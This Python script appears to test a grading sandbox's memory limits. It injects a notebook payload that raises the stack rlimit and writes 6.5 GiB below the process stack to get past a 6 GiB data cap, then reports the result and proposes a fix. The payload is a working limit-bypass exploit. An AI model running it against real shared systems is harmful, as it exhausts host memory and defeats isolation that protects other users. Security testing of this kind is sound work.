# a01: the main thread's stack past RLIMIT_DATA, no mmap flag needed (round 10 fixed MAP_GROWSDOWN in the seccomp
# filter; the process's own [stack] is a VM_GROWSDOWN mapping the kernel creates itself). The grader sets no
# RLIMIT_STACK, so the kernel inherits the TA's (soft 8 MiB, hard unlimited) and may raise its soft limit to
# unlimited. A child python exec'd with RLIMIT_STACK unlimited gets the legacy (bottom-up) mmap layout, so nothing
# lies below its stack for gigabytes; one memset below the [stack] start grows it (acct_stack_growth checks
# RLIMIT_STACK and RLIMIT_AS only; stack is not data). 6.5 GiB touched under a 6 GiB per-process data cap.
# RESULT: see the end of this file.
from u11 import *
PAYLOAD = r'''
import subprocess, sys, resource
CHILD = """
import ctypes, os, time, errno, mmap
SIZE = int(6.5 * 2**30)
def st(): return {l.split(':')[0]: l.split(':')[1].strip() for l in open('/proc/self/status') if l.startswith(('VmRSS','VmData','VmStk'))}
def avail(): return [l.strip() for l in open('/proc/meminfo') if l.startswith('MemAvailable')]
print('limits:', [l.strip() for l in open('/proc/self/limits') if l.startswith(('Max data','Max address','Max stack'))])
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
p = libc.mmap(None, SIZE, 3, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0)
print('plain 6.5 GiB anonymous mmap ->', hex(p or 0), errno.errorcode.get(ctypes.get_errno()))
stk = [l for l in open('/proc/self/maps') if '[stack]' in l][0]
lo, hi = (int(x, 16) for x in stk.split()[0].split('-'))
below = [l.split()[0] for l in open('/proc/self/maps')]
print('stack', stk.strip(), 'highest mapping below stack:', [b for b in below if int(b.split('-')[1],16) <= lo][-1])
before = avail(); t = time.time()
step = 256 << 20
for off in range(step, SIZE + step, step):
    ctypes.memset(lo - off, 1, step)
print(f'touched 6.5 GiB below the stack in {time.time()-t:.1f}s', st(), 'host before', before, 'after', avail(), flush=True)
time.sleep(5)
"""
def raise_stack():
    resource.setrlimit(resource.RLIMIT_STACK, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
print("kernel's own stack limit:", resource.getrlimit(resource.RLIMIT_STACK))
r = subprocess.run([sys.executable, "-c", CHILD], preexec_fn=raise_stack, capture_output=True, text=True)
print("child rc", r.returncode, r.stdout, r.stderr[-1500:])
'''
nb = notebook(append={"training_memory": PAYLOAD})
if __name__ == "__main__":
    d, p = ugrade("a01", {"stackgrow": nb})
    outputs(d, "stackgrow")
# RESULT (17:06-17:07 UTC, a01.out.txt): BROKEN (caps that cap, ordinary user; round 10's a04 by another way). In the
# kernel's child (limits: data 6,442,450,944, stack unlimited -- raised by the kernel itself from soft 8 MiB, hard
# unlimited, inherited from the TA's shell -- address space 23,622,320,128): a plain 6.5 GiB anonymous mmap -> ENOMEM;
# the same 6.5 GiB touched below [stack] in 18.8 s: VmRSS 6,826,980 kB, VmData 6,476 kB, VmStk 6,815,876 kB; host
# MemAvailable 21,922,684 -> 14,654,940 kB. Only RLIMIT_AS (22 GiB) bounds it, per process, x the process cap.
# Fix: set RLIMIT_STACK (soft and hard) in the sandbox's rlimits (e.g. 8-64 MiB), or count stack in the cap.
